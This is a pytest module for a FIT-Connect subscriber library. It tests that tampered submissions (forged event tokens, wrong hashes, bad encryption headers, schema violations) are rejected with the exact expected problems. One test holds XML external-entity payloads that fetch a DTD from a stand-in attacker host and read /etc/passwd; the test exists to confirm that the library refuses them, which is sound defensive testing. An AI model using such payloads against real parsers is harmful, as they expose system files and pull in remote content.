"""Every §11 check of the subscriber, each with its exact problem (type + instance).

Submissions are built by the evil sender (``tests/support/evil_sender.py``) with one check
broken at a time, sent to the in-memory Zustelldienst, received by the real
:class:`AsyncSubscriber`; the rejection is posted and read back by the sender SDK.
"""

from __future__ import annotations

import logging
from pathlib import Path
from typing import Any

import pytest
from tests.support.evil_sender import (
    EXPECTED,
    EvilAttachment,
    build,
    expected_problems,
    other_key_jwk,
    problem_pairs,
)
from tests.unit.test_client_fakes import (
    SERVICE,
    XML_SCHEMA,
    credentials,
    environment,
    other_destination_keys,
)
from tests.unit.test_subscriber_fakes import (
    VALID_XML,
    SubscriberZD,
    base_plan,
    make_subscriber,
    send_built,
    send_plan,
    tampering,
)

from fitconnect_kit.client.sender import AsyncSender
from fitconnect_kit.client.subscriber import (
    ReceivedSubmission,
    SubmissionInvalidError,
    VerificationIncompleteError,
)
from fitconnect_kit.client.verification import StepStatus, Verdict
from fitconnect_kit.protocol.api import SubmissionStatus
from fitconnect_kit.protocol.events import Event, build_set_claims, sign_set, submission_subject
from fitconnect_kit.protocol.jose.jws import sign_compact
from fitconnect_kit.protocol.jsonutil import dumps_compact

TWO_ATTACHMENTS = (
    EvilAttachment(b"%PDF-1.4 Antrag", "antrag.pdf", "application/pdf", "form"),
    EvilAttachment(b"Nachweis", "nachweis.txt"),
)
XML = {"data": VALID_XML, "data_schema_uri": XML_SCHEMA, "data_mime_type": "application/xml"}

SWITCHES: dict[str, dict[str, Any]] = {
    "wrong_data_hash": {"wrong_data_hash": True},
    "swap_attachments": {"swap_attachments": True, "attachments": TWO_ATTACHMENTS},
    "wrong_tag:metadata": {"wrong_tag": "metadata"},
    "wrong_tag:data": {"wrong_tag": "data"},
    "wrong_tag:attachment": {"wrong_tag": "attachment"},
    "metadata_version": {"metadata_version": "1.1.0"},
    "wrong_service": {"wrong_service": "urn:de:fim:leika:leistung:99123456760610"},
    "bad_xml": {"bad_xml": True, **XML},
    "schema_invalid_json": {"schema_invalid_json": b'{"antrag":"ja"}'},
    "undecryptable:metadata": {"undecryptable": "metadata"},
    "undecryptable:data": {"undecryptable": "data"},
    "undecryptable:attachment": {"undecryptable": "attachment"},
    "missing_data": {"missing_data": True},
    "reply_channel": {"reply_channel": {"deMail": {"address": "erika@example.de-mail.de"}}},
    "extra_attachment_in_metadata": {"extra_attachment_in_metadata": True},
    "missing_attachment_in_metadata": {"missing_attachment_in_metadata": True},
    "unoffered_data_schema": {"unoffered_data_schema": "urn:example:not-offered-schema:1.0"},
    "metadata_schema_violation": {"metadata_schema_violation": True},
    "broken_submit_set": {"broken_submit_set": True},
}


def test_every_switch_is_tested() -> None:
    assert set(SWITCHES) == set(EXPECTED)


async def receive(zd: SubscriberZD, tmp_path: Path, **changes: Any) -> ReceivedSubmission:
    built = build(base_plan(zd, **changes))
    await send_built(zd, built)
    async with make_subscriber(zd, transport=tampering(zd, built)) as subscriber:
        return await subscriber.receive(built.submission_id or "", tmp_path / "in")


def pairs(received: ReceivedSubmission) -> list[tuple[str, str]]:
    return problem_pairs(received.problems)


def step(received: ReceivedSubmission, number: int) -> StepStatus:
    return next(s.status for s in received.steps if s.number == number)


async def test_valid_submission_passes_every_check(tmp_path: Path) -> None:
    zd = SubscriberZD()
    received = await receive(zd, tmp_path, attachments=TWO_ATTACHMENTS)
    assert received.verdict is Verdict.VALID
    assert received.problems == ()
    assert [s.number for s in received.steps] == list(range(1, 16))
    assert all(s.status is StepStatus.OK for s in received.steps)
    assert received.tags_confirmed
    assert received.authentication_tags == received.zd_authentication_tags


async def test_valid_xml_submission(tmp_path: Path) -> None:
    received = await receive(SubscriberZD(), tmp_path, reply_channel=None, **XML)
    assert received.verdict is Verdict.VALID, received.problems
    assert received.data_path is not None
    assert received.data_path.name == "data.xml"
    assert step(received, 9) is StepStatus.NOT_APPLICABLE


@pytest.mark.parametrize("switch", sorted(SWITCHES))
async def test_each_broken_check_gives_exactly_its_problem(switch: str, tmp_path: Path) -> None:
    zd = SubscriberZD()
    built = build(base_plan(zd, **SWITCHES[switch]))
    await send_built(zd, built)
    sid = built.submission_id or ""
    async with make_subscriber(zd, transport=tampering(zd, built)) as subscriber:
        received = await subscriber.process(sid, tmp_path / "in")
    assert pairs(received) == expected_problems(switch, built)
    assert received.verdict is Verdict.INVALID
    assert received.decision is not None
    assert received.decision.event is Event.REJECT_SUBMISSION
    # The sender sees the rejection with exactly these problems.
    async with AsyncSender(
        environment(), credentials(), transport=zd.transport(), clock=zd.clock
    ) as sender:
        report = await sender.status(
            built.case_id or "", submission_id=sid, destination_id=zd.destination_id
        )
    assert report.status is SubmissionStatus.REJECTED
    assert problem_pairs(report.problems) == expected_problems(switch, built)


async def test_tags_are_sent_with_a_rejection_only_when_they_match(tmp_path: Path) -> None:
    zd = SubscriberZD()
    for changes, with_tags in (({"wrong_data_hash": True}, True), ({"wrong_tag": "data"}, False)):
        built = build(base_plan(zd, **changes))
        await send_built(zd, built)
        async with make_subscriber(zd, transport=tampering(zd, built)) as subscriber:
            received = await subscriber.process(built.submission_id or "", tmp_path / str(changes))
        assert received.decision is not None
        assert (received.decision.authentication_tags is not None) is with_tags


# --- step 1: event log ----------------------------------------------------------------------------


async def _sent(zd: SubscriberZD, **changes: Any) -> str:
    built = await send_plan(zd, base_plan(zd, **changes))
    return built.submission_id or ""


async def test_missing_submit_set_is_an_invalid_event_log(tmp_path: Path) -> None:
    zd = SubscriberZD()
    sid = await _sent(zd)
    sub = zd.submissions[sid]
    zd.case_events[sub.case_id] = zd.case_events[sub.case_id][:1]  # only create-submission
    async with make_subscriber(zd) as subscriber:
        received = await subscriber.receive(sid, tmp_path / "in")
    assert pairs(received) == [("invalid-event-log", "submission")]
    assert step(received, 2) is StepStatus.SKIPPED  # no ZD tags to compare with
    assert "no submit-submission" in (received.problems[0].detail or "")


async def test_submit_set_signed_by_another_key_is_an_invalid_event_log(tmp_path: Path) -> None:
    zd = SubscriberZD()
    sid = await _sent(zd)
    sub = zd.submissions[sid]
    claims = build_set_claims(
        Event.SUBMIT_SUBMISSION,
        issuer="https://zd.test",
        subject=submission_subject(sid),
        case_id=sub.case_id,
        payload={"authenticationTags": zd.tags_of(sub)},
        clock=zd.clock,
    )
    from tests.keycache import rsa_key

    forged = sign_set(claims, rsa_key(9), zd.zd_jwk["kid"])  # right kid, wrong key
    zd.case_events[sub.case_id][1] = forged
    async with make_subscriber(zd) as subscriber:
        received = await subscriber.process(sid, tmp_path / "in")
    assert pairs(received) == [("invalid-event-log", "submission")]
    assert received.decision is not None
    assert received.decision.authentication_tags is None


async def test_submit_set_without_tags_is_an_invalid_event_log(tmp_path: Path) -> None:
    zd = SubscriberZD()
    sid = await _sent(zd)
    sub = zd.submissions[sid]
    claims = build_set_claims(
        Event.CREATE_SUBMISSION,
        issuer="https://zd.test",
        subject=submission_subject(sid),
        case_id=sub.case_id,
        clock=zd.clock,
    )
    claims["events"] = {Event.SUBMIT_SUBMISSION.value: {}}  # an old ZD: no tags
    header = {"typ": "secevent+jwt", "alg": "PS512", "kid": zd.zd_jwk["kid"]}
    zd.case_events[sub.case_id][1] = sign_compact(header, dumps_compact(claims), zd.zd_key)
    async with make_subscriber(zd) as subscriber:
        received = await subscriber.receive(sid, tmp_path / "in")
    assert pairs(received) == [("invalid-event-log", "submission")]


async def test_other_submissions_of_the_case_do_not_matter(tmp_path: Path) -> None:
    zd = SubscriberZD()
    sid = await _sent(zd)
    case_id = zd.submissions[sid].case_id
    zd.case_events[case_id].insert(0, "not-a-set")  # garbage entries are ignored
    async with make_subscriber(zd) as subscriber:
        received = await subscriber.receive(sid, tmp_path / "in")
    assert received.valid


# --- step 3: decryption ------------------------------------------------------------------------


async def test_unacceptable_jwe_header_is_an_encryption_issue(tmp_path: Path) -> None:
    zd = SubscriberZD()
    built = build(base_plan(zd))
    from fitconnect_kit.protocol.b64 import b64url_encode

    header = b64url_encode(b'{"alg":"RSA1_5","enc":"A256GCM","kid":"x"}')
    built.data_token = header + (built.data_token or "")[(built.data_token or "").index(".") :]
    await send_built(zd, built)
    async with make_subscriber(zd) as subscriber:
        received = await subscriber.receive(built.submission_id or "", tmp_path / "in")
    assert pairs(received) == [("encryption-issue", "data")]
    assert "RSA1_5" in (received.problems[0].detail or "")
    assert step(received, 12) is StepStatus.SKIPPED


async def test_key_rotation_selects_the_key_by_kid(tmp_path: Path) -> None:
    zd = SubscriberZD()
    old = other_destination_keys()
    zd.dest_keys[old.encryption_kid] = dict(old.encryption_public)  # still published
    with_old = await send_plan(zd, base_plan(zd, encryption_key=old.encryption_public))
    with_new = await send_plan(zd, base_plan(zd))
    keys = [zd.keys.encryption_private, old.encryption_private]
    async with make_subscriber(zd, decryption_keys=keys) as subscriber:
        for built in (with_old, with_new):
            received = await subscriber.receive(
                built.submission_id or "", tmp_path / (built.submission_id or "")
            )
            assert received.valid, received.problems
            assert received.attachments[0].path is not None
            assert received.attachments[0].path.read_bytes() == b"%PDF-1.4 Antrag"


async def test_missing_private_key_of_a_published_key_is_local_not_the_senders_fault(
    tmp_path: Path,
) -> None:
    zd = SubscriberZD()
    old = other_destination_keys()
    zd.dest_keys[old.encryption_kid] = dict(old.encryption_public)
    built = await send_plan(zd, base_plan(zd, encryption_key=old.encryption_public))
    async with make_subscriber(zd) as subscriber:  # only the current key is configured
        received = await subscriber.receive(built.submission_id or "", tmp_path / "a")
        assert received.verdict is Verdict.CONFIGURATION_ERROR
        assert received.problems == ()
        assert {i.step for i in received.local_issues} == {3}
        with pytest.raises(VerificationIncompleteError):
            await subscriber.process(built.submission_id or "", tmp_path / "b")
        with pytest.raises(SubmissionInvalidError):
            await subscriber.accept(received)
    assert zd.posted_events == []


async def test_unknown_kid_is_an_encryption_issue(tmp_path: Path) -> None:
    zd = SubscriberZD()
    built = await send_plan(zd, base_plan(zd, undecryptable="metadata"))
    async with make_subscriber(zd) as subscriber:
        received = await subscriber.receive(built.submission_id or "", tmp_path / "in")
    assert pairs(received) == [("encryption-issue", "metadata")]
    assert other_key_jwk()["kid"] in (received.problems[0].detail or "")
    assert [s.status for s in received.steps[3:]] == [StepStatus.SKIPPED] * 12


# --- steps 4-6: metadata ------------------------------------------------------------------------


async def test_metadata_that_is_no_json_is_a_syntax_violation(tmp_path: Path) -> None:
    received = await receive(SubscriberZD(), tmp_path, raw_metadata=b'{"contentStructure": ')
    assert pairs(received) == [("syntax-violation", "metadata")]
    assert "line 1" in (received.problems[0].detail or "")


async def test_metadata_with_duplicate_members_is_a_syntax_violation(tmp_path: Path) -> None:
    raw = b'{"contentStructure":{"attachments":[]},"contentStructure":{"attachments":[]}}'
    received = await receive(SubscriberZD(), tmp_path, raw_metadata=raw)
    assert pairs(received) == [("syntax-violation", "metadata")]


async def test_unknown_metadata_version(tmp_path: Path) -> None:
    received = await receive(SubscriberZD(), tmp_path, metadata_version="9.0.0")
    assert pairs(received) == [("unsupported-schema", "metadata")]
    assert step(received, 6) is StepStatus.SKIPPED


async def test_configured_metadata_versions_override_the_destination(tmp_path: Path) -> None:
    zd = SubscriberZD()
    built = await send_plan(zd, base_plan(zd))
    async with make_subscriber(zd, metadata_versions=["1.2.0"]) as subscriber:
        received = await subscriber.receive(built.submission_id or "", tmp_path / "in")
    assert pairs(received) == [("unsupported-schema", "metadata")]
    assert "1.0.0" in (received.problems[0].detail or "")


async def test_schema_invalid_metadata_names_paths_not_values(tmp_path: Path) -> None:
    raw = dumps_compact(
        {
            "contentStructure": {
                "attachments": [],
                "data": {
                    "hash": {"type": "sha512", "content": "GEHEIM-not-a-hash"},
                    "submissionSchema": {"schemaUri": "urn:x", "mimeType": "text/html"},
                },
            },
            "replyChannel": {"eMail": {"address": "GEHEIM@@example"}},
        }
    )
    received = await receive(SubscriberZD(), tmp_path, raw_metadata=raw)
    assert pairs(received) == [("schema-violation", "metadata")]
    detail = received.problems[0].detail or ""
    assert "$.contentStructure.data.hash.content" in detail
    assert "$.replyChannel.eMail.address" in detail
    assert "GEHEIM" not in detail
    assert all(s.status is StepStatus.SKIPPED for s in received.steps[6:])


# --- steps 7-11 ----------------------------------------------------------------------------------


async def test_service_not_offered_by_the_destination(tmp_path: Path) -> None:
    other = "urn:de:fim:leika:leistung:99123456760610"
    received = await receive(SubscriberZD(), tmp_path, service=other)
    assert pairs(received) == [("service-mismatch", "metadata")]
    assert "not offered" in (received.problems[0].detail or "")
    assert step(received, 11) is StepStatus.SKIPPED


async def test_reply_channels_fall_back_to_the_top_level(tmp_path: Path) -> None:
    zd = SubscriberZD()
    del zd.destination["services"][0]["replyChannels"]
    zd.destination["replyChannels"] = {"deMail": {}}
    demail = {"deMail": {"address": "erika@example.de-mail.de"}}
    assert (await receive(zd, tmp_path / "a", reply_channel=demail)).valid
    email = {"eMail": {"address": "erika@example.org"}}
    received = await receive(zd, tmp_path / "b", reply_channel=email)
    assert pairs(received) == [("unsupported-reply-channel", "metadata")]
    assert "deMail" in (received.problems[0].detail or "")


async def test_unannounced_data_is_missing_data(tmp_path: Path) -> None:
    received = await receive(SubscriberZD(), tmp_path, unannounced_data=True)
    assert pairs(received) == [("missing-data", "data")]


async def test_no_data_at_all_is_fine(tmp_path: Path) -> None:
    received = await receive(SubscriberZD(), tmp_path, data=None)
    assert received.valid
    assert [step(received, n) for n in (10, 11, 12, 13, 14)] == [StepStatus.NOT_APPLICABLE] * 5
    assert received.data_path is None


async def test_data_schema_not_offered(tmp_path: Path) -> None:
    received = await receive(SubscriberZD(), tmp_path, data_schema_uri="urn:not:offered")
    assert pairs(received) == [("unsupported-schema", "data")]
    assert step(received, 14) is StepStatus.SKIPPED


# --- steps 12-15: data and attachments ------------------------------------------------------------


async def test_json_data_format_violation(tmp_path: Path) -> None:
    data = b'{"antrag":true,"email":"not an e-mail","plz":"5114"}'
    received = await receive(SubscriberZD(), tmp_path, data=data)
    assert pairs(received) == [("schema-violation", "data")]
    detail = received.problems[0].detail or ""
    assert "$.email: is not a valid email" in detail
    assert "$.plz: does not match the pattern" in detail
    assert "not an e-mail" not in detail
    assert "5114" not in detail


async def test_xml_data_schema_violation_names_elements_not_values(tmp_path: Path) -> None:
    data = b"<antrag><name>GEHEIM</name><plz>GEHEIM</plz></antrag>"
    received = await receive(SubscriberZD(), tmp_path, **{**XML, "data": data})
    assert pairs(received) == [("schema-violation", "data")]
    detail = received.problems[0].detail or ""
    assert "/antrag/plz" in detail
    assert "GEHEIM" not in detail


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "GEHEIM">]><antrag>&x;</antrag>',
        b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><antrag/>',
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    ],
)
async def test_xml_with_a_dtd_is_refused(data: bytes, tmp_path: Path) -> None:
    received = await receive(SubscriberZD(), tmp_path, **{**XML, "data": data})
    assert pairs(received) == [("syntax-violation", "data")]
    assert "GEHEIM" not in (received.problems[0].detail or "")


async def test_missing_data_schema_is_a_local_issue(tmp_path: Path) -> None:
    from fitconnect_kit.client.schemas import SchemaRegistry

    zd = SubscriberZD()
    built = await send_plan(zd, base_plan(zd))
    sid = built.submission_id or ""
    async with make_subscriber(zd, schemas=SchemaRegistry()) as subscriber:
        received = await subscriber.receive(sid, tmp_path / "a")
        assert received.verdict is Verdict.CONFIGURATION_ERROR
        assert step(received, 14) is StepStatus.LOCAL_ERROR
        assert received.local_issues[0].schema_uri == base_plan(zd).data_schema_uri
        with pytest.raises(VerificationIncompleteError) as info:
            await subscriber.decide(received)
        assert info.value.received is received
    assert zd.posted_events == []
    async with make_subscriber(
        zd, schemas=SchemaRegistry(), require_data_schema=False
    ) as subscriber:
        received = await subscriber.process(sid, tmp_path / "b")
    assert received.valid
    assert received.decision is not None
    assert received.decision.name == "accept-submission"


async def test_all_determinable_problems_are_collected_in_check_order(tmp_path: Path) -> None:
    zd = SubscriberZD()
    built = build(
        base_plan(
            zd,
            attachments=TWO_ATTACHMENTS,
            wrong_data_hash=True,
            reply_channel={"fink": {"finkPostfachRef": "hh/by/12345"}},
            extra_attachment_in_metadata=True,
            swap_attachments=True,
            wrong_tag="metadata",
        )
    )
    await send_built(zd, built)
    async with make_subscriber(zd, transport=tampering(zd, built)) as subscriber:
        received = await subscriber.receive(built.submission_id or "", tmp_path / "in")
    a, b = built.attachment_ids
    assert pairs(received) == [
        ("incorrect-authentication-tag", "metadata"),
        ("attachments-mismatch", "metadata"),
        ("unsupported-reply-channel", "metadata"),
        ("hash-mismatch", "data"),
        ("hash-mismatch", f"attachment:{a}"),
        ("hash-mismatch", f"attachment:{b}"),
    ]


async def test_no_plaintext_in_details_or_logs(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="fitconnect_kit")
    secret = "GEHEIM-Erika-Mustermann-4711"
    zd = SubscriberZD()
    data = (f'{{"antrag":"{secret}","plz":"{secret}"}}').encode()
    built = build(
        base_plan(
            zd,
            data=data,
            attachments=(EvilAttachment(secret.encode(), f"{secret}.txt"),),
            reply_channel={"eMail": {"address": f"{secret}@example.org"}},
            wrong_data_hash=True,
            swap_attachments=False,
        )
    )
    await send_built(zd, built)
    async with make_subscriber(zd) as subscriber:
        received = await subscriber.process(built.submission_id or "", tmp_path / "in")
    assert received.verdict is Verdict.INVALID
    for problem in received.problems:
        assert secret not in (problem.detail or "")
    assert secret not in caplog.text
    for token in zd.posted_events:
        from fitconnect_kit.protocol.events import parse_set

        assert secret not in str(parse_set(token).payload)


async def test_service_mismatch_via_submission_service(tmp_path: Path) -> None:
    """The announced serviceType is authoritative; the metadata must repeat it."""
    received = await receive(SubscriberZD(), tmp_path, wrong_service=SERVICE.replace("0", "1", 1))
    assert pairs(received) == [("service-mismatch", "metadata")]
